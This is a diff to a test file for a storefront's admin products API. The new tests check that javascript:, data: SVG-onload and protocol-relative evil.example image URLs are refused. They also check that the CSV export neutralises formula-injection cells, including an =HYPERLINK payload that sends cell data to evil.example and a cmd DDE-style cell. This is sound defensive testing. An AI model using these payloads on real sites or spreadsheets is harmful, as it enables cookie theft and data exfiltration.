@@ -1,10 +1,12 @@
-import type {
-  AdminProduct,
-  AdminProductList,
-  LowStockList,
-  Product,
-  ProductCreateInput,
+import {
+  type AdminProduct,
+  type AdminProductList,
+  IMAGE_URL_MESSAGE,
+  type LowStockList,
+  type Product,
+  type ProductCreateInput,
 } from '@storefront/contract';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { stores } from '../../db/schema';
 import { seedProducts } from '../../db/seed/sample-products';
@@ -54,6 +56,10 @@ describe.each(drivers)('back-office products API on %s', (driver) => {
     asStaff(t.app, cookie, { method: 'POST', url: '/api/v1/admin/products', payload });
   const publicProduct = (id: string) =>
     t.app.inject({ method: 'GET', url: `/api/v1/products/${id}` });
+  const adminProduct = async (id: string) =>
+    (
+      await asStaff(t.app, owner, { method: 'GET', url: `/api/v1/admin/products/${id}` })
+    ).json<AdminProduct>();
 
   it('creates a product with its variants, shown on the storefront with its stock', async () => {
     const response = await create(kurta);
@@ -133,6 +139,49 @@ describe.each(drivers)('back-office products API on %s', (driver) => {
     const response = await create({ ...kurta, variants: undefined, ...change });
     expect(response.statusCode).toBe(400);
     expect(response.json<{ error: string }>().error).toContain(message);
+  });
+
+  it('refuses an image at an address that is neither the web’s nor the shop’s own, naming the field', async () => {
+    const hostile = [
+      'javascript:alert(document.cookie)',
+      'data:image/svg+xml,<svg onload=alert(1)>',
+      '//evil.example/a.png',
+      '/\\evil.example/a.png',
+    ];
+    for (const url of hostile) {
+      const created = await create({
+        ...kurta,
+        variants: undefined,
+        title: 'Evil image',
+        images: [
+          { url: '/images/products/kurta.svg', alt: '' },
+          { url, alt: '' },
+        ],
+      });
+      expect(created.statusCode, url).toBe(400);
+      expect(created.json(), url).toEqual({ error: `images.1.url: ${IMAGE_URL_MESSAGE}` });
+    }
+    const { id } = (
+      await create({ ...kurta, variants: undefined, title: 'Fine image' })
+    ).json<AdminProduct>();
+    const edited = await asStaff(t.app, manager, {
+      method: 'PATCH',
+      url: `/api/v1/admin/products/${id}`,
+      payload: { images: [{ url: hostile[0], alt: '' }] },
+    });
+    expect(edited.statusCode).toBe(400);
+    expect(edited.json()).toEqual({ error: `images.0.url: ${IMAGE_URL_MESSAGE}` });
+    expect((await adminProduct(id)).images).toEqual(kurta.images);
+    // The catalogue file's images column, on its row's line.
+    const imported = await importCatalogueCsv(
+      t.app,
+      owner,
+      `title,category,regular_price,images\nEvil,Home,100,/images/a.svg | ${hostile[0]}\n`,
+      true,
+    );
+    expect(imported.result.errors).toEqual([
+      { line: 2, error: `images: ${IMAGE_URL_MESSAGE}` },
+    ]);
   });
 
   it('refuses a SKU another product uses (409), and writes nothing', async () => {
@@ -356,6 +405,62 @@ describe.each(drivers)('back-office products API on %s', (driver) => {
       expect(result.errors).toEqual([]);
       expect(result.created).toBe(0);
       expect(result.updated).toBeGreaterThan(seedProducts.length);
+      const again = await asStaff(t.app, owner, {
+        method: 'GET',
+        url: '/api/v1/admin/products/export',
+      });
+      expect(again.body).toBe(exported.body);
+    });
+
+    it('writes no cell a spreadsheet would run as a formula, and imports every one back as it was', async () => {
+      // Each dangerous first character (a tab or a carriage return cannot start a text the
+      // catalogue keeps: it trims them), and texts that really start with an apostrophe; with
+      // the start of an attribute's key, which cannot hold "=" (it separates key and values).
+      const texts = [
+        ['=HYPERLINK("https://evil.example/?"&A1,"Click")', ''],
+        ['+SUM(1,2)', '+'],
+        ['-2+3+cmd!A0', '-'],
+        ['@SUM(1+1)', '@'],
+        ["'=already marked as text", "'+"],
+        ["''@twice", "''@"],
+        ["'plain apostrophe", "'"],
+      ] as const;
+      const ids: string[] = [];
+      for (const [index, [text, keyStart]] of texts.entries()) {
+        const response = await create({
+          title: `${text} #${index}`,
+          description: `${text}\nand a second line`,
+          category: 'Home',
+          regularPrice: 100,
+          sizes: ['One Size'],
+          colors: [`${text.slice(0, 30)} ${index}`],
+          images: [{ url: '/images/products/kurta.svg', alt: text }],
+          attributes: [{ key: `${keyStart}material ${index}`, value: ['=steel', '-12.50'] }],
+          manufacturer: text,
+        });
+        expect(response.statusCode, response.body).toBe(201);
+        ids.push(response.json<AdminProduct>().id);
+      }
+      const before = await Promise.all(ids.map(adminProduct));
+
+      const exported = await asStaff(t.app, owner, {
+        method: 'GET',
+        url: '/api/v1/admin/products/export',
+      });
+      const cells = (parse(exported.body) as string[][]).flat();
+      const formulas = cells.filter(
+        (cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell),
+      );
+      expect(formulas).toEqual([]);
+      expect(cells).toContain(`'${texts[0][0]} #0`);
+      expect(cells).toContain(`'${texts[4][0]} #4`);
+      expect(cells).toContain(`${texts[6][0]} #6`);
+
+      const applied = (await importCsv(exported.body, false)).result;
+      expect(applied.errors).toEqual([]);
+      expect(await Promise.all(ids.map(adminProduct))).toEqual(
+        before.map((product) => ({ ...product, updatedAt: expect.any(String) })),
+      );
       const again = await asStaff(t.app, owner, {
         method: 'GET',
         url: '/api/v1/admin/products/export',
